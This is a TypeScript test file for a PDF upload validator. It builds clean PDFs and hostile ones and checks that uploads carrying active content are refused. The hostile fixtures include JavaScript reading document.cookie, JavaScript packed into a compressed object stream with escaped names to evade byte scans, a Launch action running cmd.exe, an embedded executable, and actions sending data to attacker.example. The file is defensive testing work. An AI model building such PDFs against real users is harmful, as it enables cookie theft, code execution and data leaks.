import { deflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../test/harness';
import { upload as staffUpload } from '../modules/content/content.test-kit';
import { multipartBody } from '../modules/invoices/invoices.test-kit';
import { uploadAs } from '../modules/kyc/kyc.test-kit';
import { registerMember, smsInbox } from '../modules/members/members.test-kit';
import { checkPdf } from './pdf-active-content';

/**
 * Hostile and clean PDFs written here, object by object. `top` are the file's own objects (1 is the
 * catalog, 2 the page tree, 3 the page); `packed` go into one Flate-compressed object stream, found
 * through a cross-reference stream as viewers find them.
 */
function buildPdf(top: string[], packed: string[] = [], trailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let length = parts[0]!.length;
  const offsets: number[] = [];
  const add = (text: string | Buffer) => {
    const b = typeof text === 'string' ? Buffer.from(text, 'latin1') : text;
    parts.push(b);
    length += b.length;
  };
  top.forEach((body, i) => {
    offsets[i + 1] = length;
    add(`${i + 1} 0 obj\n${body}\nendobj\n`);
  });
  if (packed.length === 0) {
    const xref = length;
    add(`xref\n0 ${top.length + 1}\n0000000000 65535 f \n`);
    for (let n = 1; n <= top.length; n++) add(`${String(offsets[n]).padStart(10, '0')} 00000 n \n`);
    add(`trailer\n<< /Size ${top.length + 1} /Root 1 0 R ${trailer}>>\nstartxref\n${xref}\n%%EOF\n`);
    return Buffer.concat(parts);
  }
  const first = top.length + 1;
  const streamNo = first + packed.length;
  const xrefNo = streamNo + 1;
  let header = '';
  let bodies = '';
  packed.forEach((body, i) => {
    header += `${first + i} ${bodies.length} `;
    bodies += `${body}\n`;
  });
  const data = deflateSync(Buffer.from(header + bodies, 'latin1'));
  offsets[streamNo] = length;
  add(
    `${streamNo} 0 obj\n<< /Type /ObjStm /N ${packed.length} /First ${header.length} /Filter /FlateDecode /Length ${data.length} >>\nstream\n`,
  );
  add(data);
  add('\nendstream\nendobj\n');
  // Cross-reference stream: type 1 (offset) for the file's objects, type 2 (stream, index) for packed ones.
  const rows: Buffer[] = [Buffer.from([0, 0, 0, 0, 0, 0xff, 0xff])];
  const row = (type: number, a: number, b: number) => {
    const r = Buffer.alloc(7);
    r[0] = type;
    r.writeUInt32BE(a, 1);
    r.writeUInt16BE(b, 5);
    rows.push(r);
  };
  for (let n = 1; n <= top.length; n++) row(1, offsets[n]!, 0);
  for (let i = 0; i < packed.length; i++) row(2, streamNo, i);
  row(1, offsets[streamNo]!, 0);
  row(1, length, 0);
  const table = Buffer.concat(rows);
  const xref = length;
  add(
    `${xrefNo} 0 obj\n<< /Type /XRef /Size ${xrefNo + 1} /W [1 4 2] /Root 1 0 R /Length ${table.length} ${trailer}>>\nstream\n`,
  );
  add(table);
  add(`\nendstream\nendobj\nstartxref\n${xref}\n%%EOF\n`);
  return Buffer.concat(parts);
}

const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const page = (extra = '') =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R ${extra}>>`;
const TEXT = 'BT /F1 24 Tf 72 720 Td (Terms v1) Tj ET';
const CONTENT = `<< /Length ${TEXT.length} >>\nstream\n${TEXT}\nendstream`;
const catalog = (extra = '') => `<< /Type /Catalog /Pages 2 0 R ${extra}>>`;

const CLEAN = buildPdf([catalog(), PAGES, page(), CONTENT]);
/** The same clean file with its page objects in a compressed object stream: nothing active in it. */
const CLEAN_PACKED = buildPdf([catalog()], [PAGES, page().replace('4 0 R', '[]')]);

const AUTOMATIC = 'an automatic action (OpenAction or AA)';

const HOSTILE: Record<string, { pdf: Buffer; found: string }> = {
  'JavaScript in OpenAction': {
    pdf: buildPdf([
      catalog('/OpenAction 5 0 R'),
      PAGES,
      page(),
      CONTENT,
      '<< /Type /Action /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>',
    ]),
    found: 'JavaScript',
  },
  'JavaScript in a compressed object stream, names #-escaped': {
    pdf: buildPdf(
      [catalog('/OpenAction 4 0 R')],
      [PAGES, page('/Contents []'), '<< /S /J#61vaScript /#4aS (this.exportDataObject\\({cName: "x"}\\)) >>'],
    ),
    found: 'JavaScript',
  },
  'a Launch action in a page’s additional actions': {
    pdf: buildPdf([
      catalog(),
      PAGES,
      page('/AA << /O 5 0 R >>'),
      CONTENT,
      '<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>',
    ]),
    found: 'a Launch action',
  },
  'an embedded file': {
    pdf: buildPdf([
      catalog('/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>'),
      PAGES,
      page(),
      CONTENT,
      '<< /Type /Filespec /F (a.exe) >>',
    ]),
    found: 'an embedded file',
  },
  'an XFA form': {
    pdf: buildPdf([
      catalog('/AcroForm << /Fields [] /XFA 5 0 R >>'),
      PAGES,
      page(),
      CONTENT,
      '<< /Length 0 >>\nstream\n\nendstream',
    ]),
    found: 'an XFA form',
  },
  'rich media': {
    pdf: buildPdf([
      catalog(),
      PAGES,
      page('/Annots [5 0 R]'),
      CONTENT,
      '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>',
    ]),
    found: 'rich media',
  },
  'GoToR in OpenAction': {
    pdf: buildPdf([
      catalog('/OpenAction << /S /GoToR /F (\\\\attacker.example\\share\\x.pdf) /D [0 /Fit] >>'),
      PAGES,
      page(),
      CONTENT,
    ]),
    found: AUTOMATIC,
  },
  'SubmitForm in a page’s additional actions, in a compressed object stream': {
    pdf: buildPdf(
      [catalog()],
      [PAGES, page('/Contents [] /AA << /O 5 0 R >>'), '<< /S /SubmitForm /F (https://attacker.example/) >>'],
    ),
    found: AUTOMATIC,
  },
  'ImportData in OpenAction by reference': {
    pdf: buildPdf([catalog('/OpenAction 5 0 R'), PAGES, page(), CONTENT, '<< /S /ImportData /F (x.fdf) >>']),
    found: AUTOMATIC,
  },
  'URI in a form field’s additional actions, the key #-escaped': {
    pdf: buildPdf([
      catalog('/AcroForm << /Fields [5 0 R] >>'),
      PAGES,
      page('/Annots [5 0 R]'),
      CONTENT,
      '<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /#41A << /Fo << /S /URI /URI (https://attacker.example/) >> >> >>',
    ]),
    found: AUTOMATIC,
  },
  encryption: {
    pdf: buildPdf(
      [catalog(), PAGES, page(), CONTENT, '<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>'],
      [],
      '/Encrypt 5 0 R ',
    ),
    found: 'encryption (a password or protection)',
  },
};

describe('PDF active content', () => {
  it('passes plain PDFs, with or without object streams', async () => {
    expect(await checkPdf(CLEAN)).toEqual({ ok: true });
    expect(await checkPdf(CLEAN_PACKED)).toEqual({ ok: true });
  });

  it('passes an OpenAction that only opens at a page (a destination), inline or by reference, and a link to click', async () => {
    const inline = buildPdf([catalog('/OpenAction [3 0 R /Fit]'), PAGES, page(), CONTENT]);
    const referenced = buildPdf([
      catalog('/OpenAction 5 0 R'),
      PAGES,
      page(),
      CONTENT,
      '[3 0 R /XYZ 0 842 0]',
    ]);
    const link = buildPdf([
      catalog(),
      PAGES,
      page('/Annots [5 0 R]'),
      CONTENT,
      '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.com/) >> >>',
    ]);
    expect(await checkPdf(inline)).toEqual({ ok: true });
    expect(await checkPdf(referenced)).toEqual({ ok: true });
    expect(await checkPdf(link)).toEqual({ ok: true });
  });

  it.each(Object.entries(HOSTILE))('refuses %s', async (_, { pdf, found }) => {
    expect(await checkPdf(pdf)).toEqual({ ok: false, found });
  });

  it('sees JavaScript a scan of the raw bytes cannot see', () => {
    const packed =
      HOSTILE['JavaScript in a compressed object stream, names #-escaped']!.pdf.toString('latin1');
    expect(packed).not.toMatch(/JavaScript|\/JS\b/);
  });
});

describe('uploads refuse PDFs with active content, naming the field', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp();
  });
  afterAll(() => t.close());

  it('a member upload (KYC, projects, feedback) and a document published to every member', async () => {
    const inbox = smsInbox(t);
    const { token } = await registerMember(t, inbox);
    for (const { pdf, found } of Object.values(HOSTILE)) {
      const res = await uploadAs(t, token, pdf);
      expect(res.statusCode).toBe(400);
      expect(res.json().fields.file).toMatch(
        new RegExp(`^The PDF has ${found.replace(/[()]/g, '\\$&')}, which is not allowed`),
      );
    }
    expect((await uploadAs(t, token, CLEAN)).statusCode).toBe(201);
    expect((await uploadAs(t, token, CLEAN_PACKED)).statusCode).toBe(201);

    const hostile = await t.as('marketing', {
      method: 'POST',
      url: '/api/files?purpose=content_document',
      ...multipartBody(
        'terms.pdf',
        HOSTILE['JavaScript in a compressed object stream, names #-escaped']!.pdf,
      ),
    });
    expect(hostile.statusCode).toBe(400);
    expect(hostile.json()).toMatchObject({
      error: 'validation_failed',
      fields: { file: expect.stringContaining('JavaScript') },
    });
    expect(await staffUpload(t, 'marketing', 'content_document', CLEAN)).toBeGreaterThan(0);
  });
});
